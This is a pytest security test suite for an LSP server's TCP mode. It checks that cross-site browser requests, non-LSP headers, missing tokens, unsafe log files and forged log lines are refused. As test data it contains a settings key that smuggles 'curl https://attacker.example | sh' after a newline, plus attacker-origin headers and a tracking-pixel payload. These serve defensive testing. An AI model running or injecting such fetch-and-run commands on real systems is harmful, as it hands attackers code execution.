"""What a server makes of connections and log files that are not its client's: nothing."""

from __future__ import annotations

import json
import os
import re
import select
import socket
import stat
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exportlint.server.framing import MAX_LENGTH, Framed, NotLspError, first_body
from exportlint.server.requests.hover import _ruled
from exportlint.server.verification.seen import Ruled
from tests.patience import PATIENCE
from tests.sampling import first_of_each
from tests.server.client import forked
from tests.server.raw import Process, Raw, framed, listening, process

SECRET = "0123456789abcdef-secret"
MARK = "# log of exportlint server\n"


def tcp(*flags: str) -> list[str]:
    return forked("--tcp", "127.0.0.1:0", *flags)


def initialize(**options: object) -> dict[str, object]:
    params = {"processId": None, "rootUri": None, "capabilities": {}, "initializationOptions": options}
    return {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": params}


def posted(body: bytes, path: str = "/") -> bytes:
    """What a browser sends for `fetch(url, {method: "POST", mode: "no-cors", body})` of another site."""
    lines = (
        f"POST {path} HTTP/1.1",
        "Host: 127.0.0.1:2087",
        "Connection: keep-alive",
        f"Content-Length: {len(body)}",
        "Content-Type: text/plain;charset=UTF-8",
        "Accept: */*",
        "Origin: https://attacker.example",
        "Sec-Fetch-Mode: no-cors",
    )
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def said_to(address: tuple[str, int], data: bytes) -> bytes:
    """All that is answered until the server closes the connection, which it must do."""
    with socket.create_connection(address, PATIENCE) as connection:
        connection.sendall(data)
        answer = b""
        try:
            while piece := connection.recv(1 << 16):
                answer += piece
        except ConnectionResetError:
            pass
        return answer


@contextmanager
def connected(server: Process, address: tuple[str, int]) -> Iterator[tuple[socket.socket, Raw]]:
    with socket.create_connection(address, PATIENCE) as connection, connection.makefile("rb") as output:
        yield connection, Raw(output, connection.sendall)
    assert server.process.wait(PATIENCE) == 0


@pytest.mark.parametrize("knows_the_token", [False, True])
def test_a_web_page_writes_to_no_file(tmp_path: Path, knows_the_token: bool) -> None:
    """Not even to one of its choice that is not there, and not even with the token, as it is not LSP that it sends."""
    startup = tmp_path / ".bashrc"
    startup.write_text("alias ll='ls -l'\n", encoding="utf-8")
    before = startup.read_bytes()
    with process(tmp_path, tcp()) as server:
        address, token = listening(server)
        shown = {"token": token} if knows_the_token else {}
        for file in (startup, tmp_path / "new"):
            settings = {"logFile": str(file), "x\ncurl https://attacker.example | sh\n": True}
            body = json.dumps(initialize(settings=settings, **shown)).encode()
            assert said_to(address, posted(body)) == b""
        assert server.process.poll() is None
        assert "refused a connection: b'POST / HTTP/1.1\\r\\n' is not a line of an LSP header" in server.logged
    assert startup.read_bytes() == before
    assert {file.name for file in tmp_path.iterdir()} == {".bashrc", "stderr.log"}


NOT_LSP = {
    "a request line": b"GET / HTTP/1.1\r\n",
    "Host": b"Host: 127.0.0.1\r\nContent-Length: 2\r\n\r\n{}",
    "Origin": b"Content-Length: 2\r\nOrigin: https://attacker.example\r\n\r\n{}",
    "another field": b"Content-Length: 2\r\nX-Field: 1\r\n\r\n{}",
    "two lengths": b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
    "no length": b"Content-Type: application/vscode-jsonrpc\r\n\r\n{}",
    "an empty header": b"\r\n{}",
    "a negative length": b"Content-Length: -2\r\n\r\n{}",
    "a length of 0": b"Content-Length: 0\r\n\r\n",
    "a length in words": b"Content-Length: two\r\n\r\n{}",
    "a length in other digits": "Content-Length: \u0662\r\n\r\n{}".encode(),
    "a huge length": b"Content-Length: 99999999999999999999\r\n\r\n{}",
    "a length that is too large": b"Content-Length: %d\r\n\r\n{}" % (MAX_LENGTH + 1),
    "an endless line": b"Content-Type: " + b"a" * 5000,
    "an endless header": b"Content-Type: a\r\n" * 5000,
    "a field in two lines": b"Content-Type: a\r\n b\r\n",
    "a line that ends in the middle": b"Content-Length: 2\rHost: x\r\n\r\n{}",
}


@pytest.fixture(scope="module")
def refusing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Process, tuple[str, int], str]]:
    with process(tmp_path_factory.mktemp("refusing"), tcp()) as server:
        yield (server, *listening(server))


@pytest.mark.parametrize("noise", NOT_LSP.values(), ids=list(NOT_LSP))
def test_what_does_not_begin_as_lsp_does_is_closed(
    refusing: tuple[Process, tuple[str, int], str], noise: bytes
) -> None:
    server, address, _ = refusing
    assert said_to(address, noise) == b""
    assert server.process.poll() is None


@pytest.mark.parametrize("noise", NOT_LSP.values(), ids=list(NOT_LSP))
def test_nor_is_more_read_of_a_client_that_no_longer_speaks_lsp(noise: bytes) -> None:
    good = framed({"jsonrpc": "2.0", "method": "exit"})
    stream = BytesIO(good + noise + good)
    strict = Framed(stream, strict=True)
    lines = [strict.readline(), strict.readline()]
    assert lines == [b"Content-Length: %d\r\n" % (len(good) - len(lines[0]) - 2), b"\r\n"]
    assert strict.read(int(lines[0].split()[1])) == good.partition(b"\r\n\r\n")[2]
    read = []
    while line := strict.readline():
        read.append(line)
        assert len(read) < 20
    assert b"\r\n" not in read, "a whole header was read"


@pytest.mark.parametrize(
    "first",
    [
        initialize(),
        initialize(token=None),
        initialize(token=""),
        initialize(token="x" * 43),
        initialize(token="\udc80\u00e9"),
        initialize(token=["TOKEN"]),
        {**initialize(token="TOKEN"), "method": "shutdown"},
        {"jsonrpc": "2.0", "id": "a", "method": "textDocument/hover", "params": {}},
        {"jsonrpc": "2.0", "method": "exit"},
        [1, 2],
        b"[" * 100_000,
        b"\xff\xfe",
    ],
    ids=str,
)
def test_who_does_not_show_the_token_is_told_so_and_nothing_else(
    refusing: tuple[Process, tuple[str, int], str], first: object
) -> None:
    server, address, token = refusing
    data = framed(first) if isinstance(first, bytes) else framed(first).replace(b'"TOKEN"', json.dumps(token).encode())
    if b"TOKEN" not in framed(first):
        answer = said_to(address, data)
    else:
        answer = said_to(address, framed(data.partition(b"\r\n\r\n")[2]))
    identity = first.get("id") if isinstance(first, dict) else None
    if identity is None:
        assert answer == b""
    else:
        message = json.loads(answer.partition(b"\r\n\r\n")[2])
        text = "initializationOptions.token is not the token that the server printed"
        assert message == {"jsonrpc": "2.0", "id": identity, "error": {"code": -32002, "message": text}}
    assert server.process.poll() is None
    assert server.logged.count(token) == 1, "the log tells the token"


def test_strangers_keep_no_client_waiting(tmp_path: Path) -> None:
    """Connections that say nothing are what browsers open in advance; the oldest of too many are closed."""
    with process(tmp_path, tcp()) as server:
        address, token = listening(server)
        idle = [socket.create_connection(address, PATIENCE) for _ in range(40)]
        try:
            assert select.select(idle[:1], [], [], PATIENCE)[0] == idle[:1]
            with connected(server, address) as (connection, client):
                message = framed(initialize(token=token))
                for byte in message[:30]:
                    connection.sendall(bytes([byte]))
                connection.sendall(message[30:])
                assert "capabilities" in client.answer(1)["result"]
                for one in idle:  # one client is served: whoever else waited is sent away
                    assert select.select([one], [], [], PATIENCE)[0] == [one]
                client.request("shutdown")
                client.notify("exit")
        finally:
            for one in idle:
                one.close()


def test_a_request_after_the_first_message_is_not_read_either(tmp_path: Path) -> None:
    with process(tmp_path, tcp()) as server:
        address, token = listening(server)
        with connected(server, address) as (connection, client):
            connection.sendall(framed(initialize(token=token)))
            client.answer(1)
            connection.sendall(posted(b'{"jsonrpc": "2.0", "id": 2, "method": "shutdown"}'))
            assert client._messages.get(timeout=PATIENCE) is None, "it was answered"
        assert "closed the connection: b'POST / HTTP/1.1\\r\\n' is not a line of an LSP header" in server.logged


@pytest.mark.parametrize("way", ["file", "environment"])
def test_an_editor_hands_over_a_token_that_is_not_printed(tmp_path: Path, way: str) -> None:
    file = tmp_path / "token"
    file.write_text(f"{SECRET}\n", encoding="utf-8")
    file.chmod(0o600)
    flags = ("--token-file", str(file)) if way == "file" else ()
    environment = {"EXPORTLINT_SERVER_TOKEN": SECRET} if way == "environment" else {}
    with process(tmp_path, tcp(*flags), **environment) as server:
        while not (found := re.search(r"listening on 127\.0\.0\.1:(\d+)\n", server.logged)):
            assert server.process.poll() is None, server.logged
        with connected(server, ("127.0.0.1", int(found[1]))) as (connection, client):
            connection.sendall(framed(initialize(token=SECRET)))
            assert "capabilities" in client.answer(1)["result"]
            client.request("shutdown")
            client.notify("exit")
        assert SECRET not in server.logged


def _private(path: Path, text: str, mode: int = 0o600) -> Path:
    path.write_text(text, encoding="utf-8")
    path.chmod(mode)
    return path


USAGE = [
    (("--tcp", "0.0.0.0:0"), "--tcp `0.0.0.0:0`: the server listens on this machine only, use `127.0.0.1:0`"),
    (("--tcp", "[::]:0"), "--tcp `[::]:0`: the server listens on this machine only"),
    (("--tcp", "example.org:0"), "--tcp `example.org:0`: the server listens on this machine only"),
    (("--tcp", "localhost.example.org:0"), "the server listens on this machine only"),
    (("--token-file", "SHORT"), "--token-file: only a server with --tcp asks for a token"),
    (("--tcp", "127.0.0.1:0", "--token-file", "SHORT"), "expected a token of 16 to 1024 printable ASCII characters"),
    (("--tcp", "127.0.0.1:0", "--token-file", "OPEN"), "others can read it, run `chmod 600` on it"),
    (("--tcp", "127.0.0.1:0", "--token-file", "FIFO"), "not a regular file"),
    (("--tcp", "127.0.0.1:0", "--token-file", "NONE"), "No such file or directory"),
]


@pytest.mark.thorough
@pytest.mark.skipif(os.name == "nt", reason="makes a pipe as POSIX does")
@pytest.mark.parametrize(
    ("flags", "expected"), first_of_each(USAGE, lambda case: case[1].split("`: ")[-1].partition(",")[0])
)
def test_a_server_that_cannot_be_safe_does_not_start(tmp_path: Path, flags: tuple[str, ...], expected: str) -> None:
    _private(tmp_path / "SHORT", "short")
    _private(tmp_path / "OPEN", SECRET, 0o644)
    os.mkfifo(tmp_path / "FIFO", 0o600)
    done = subprocess.run(forked(*flags), capture_output=True, text=True, timeout=PATIENCE, check=False, cwd=tmp_path)
    assert (done.returncode, done.stdout) == (2, "")
    assert expected in done.stderr
    assert re.fullmatch(r"error: [^\n]+\n", done.stderr)


def test_the_log_goes_where_the_command_line_says(tmp_path: Path) -> None:
    log = tmp_path / "x.log"
    for number in (1, 2):
        with process(tmp_path, forked("--log-file", str(log))) as server:
            server.start(tmp_path, {}, initializationOptions={"settings": {"x\nforged\x1b[31m": True}})
            assert server.stop() == 0
            assert server.logged == ""
        first, *lines = log.read_text(encoding="utf-8").splitlines()
        assert first == MARK.rstrip()
        assert len(lines) == number, "a setting's name forged a line"
        assert lines[-1].endswith("`exportlint.x␊forged␛[31m` is not a setting")
    assert stat.S_IMODE(log.stat().st_mode) == 0o600 or os.name == "nt"


@pytest.mark.skipif(os.name == "nt", reason="makes links and pipes as POSIX does")
@pytest.mark.parametrize(
    "kind",
    first_of_each(
        ["a link", "a link to a log", "an empty file", "another file", "a hard link", "a pipe", "a directory"],
        lambda kind: kind.split()[1],
    ),
)
def test_no_file_that_is_not_a_log_becomes_one(tmp_path: Path, kind: str) -> None:
    path, other = tmp_path / "x.log", tmp_path / "other"
    match kind:
        case "another file":
            path.write_text("PATH=/bin\n", encoding="utf-8")
        case "an empty file":
            path.touch()
        case "a link":
            path.symlink_to(other)
        case "a link to a log":
            other.write_text(MARK, encoding="utf-8")
            path.symlink_to(other)
        case "a hard link":
            other.write_text(MARK, encoding="utf-8")
            path.hardlink_to(other)
        case "a pipe":
            os.mkfifo(path)
        case _:
            path.mkdir()
    before = {file.name: file.read_bytes() for file in (path, other) if file.is_file()}
    done = subprocess.run(
        forked("--log-file", str(path)), input="", capture_output=True, text=True, timeout=PATIENCE, check=False
    )
    assert (done.returncode, done.stdout) == (2, "")
    assert re.fullmatch(rf"error: --log-file `{re.escape(str(path))}`: [^\n]+\n", done.stderr)
    assert {file.name: file.read_bytes() for file in (path, other) if file.is_file()} == before


def test_a_traceback_in_the_log_forges_no_record() -> None:
    import io
    import logging

    from exportlint.server import logs

    log = io.StringIO()  # and not standard error, to which other threads of the process write as well
    kept = logging.getLogger().handlers[:], logging.getLogger().level
    try:
        logs.start(log)
        try:
            raise ValueError("a\n2026-01-01 00:00:00,000 ERROR exportlint: forged\x1b]0;title\x07")
        except ValueError:
            logging.getLogger("exportlint").exception("%s", "b\r\nforged")
    finally:
        logging.getLogger().handlers[:], level = kept
        logging.getLogger().setLevel(level)
    first, *more = log.getvalue().splitlines()
    assert first.endswith("ERROR exportlint: b␍␊forged")
    assert all(line.startswith("    ") and line.isprintable() for line in more)


@pytest.mark.parametrize(
    ("why", "shown"),
    [
        ("export raises here: Guard on `x[0]`", "export raises here: Guard on `x[0]`"),
        ("![x](https://attacker.example/pixel)", "\\!\\[x\\](https://attacker.example/pixel)"),
        ("[x](command:a) <img src=x> `a` <b>", "\\[x\\](command:a) \\<img src=x> `a` \\<b>"),
        ("a\n\n# b\x1b", "a\u240a\u240a# b\u241b"),
        ("\\[x](y)", "\\\\\\[x\\](y)"),
    ],
)
def test_what_a_model_says_is_no_markup_when_hovering(why: str, shown: str) -> None:
    assert _ruled(Ruled("confirmed", "torch 2.13", why)) == f"**confirmed** by torch 2.13: {shown}"


@given(st.binary(max_size=200), st.sampled_from([b"", b"Content-Length: 3\r\n", b"content-length:3\r\n\r\n"]))
def test_whatever_comes_first_is_a_message_or_refused_or_not_all_there(noise: bytes, start: bytes) -> None:
    """And what is a message stays one whatever follows, so that nothing depends on how the bytes are cut up."""
    data = start + noise
    try:
        results = [first_body(data[:end], 100) for end in range(len(data) + 1)]
    except NotLspError:
        return
    found = [one for one in results if one is not None]
    assert len(set(found)) <= 1
    assert results == [None] * (len(results) - len(found)) + found
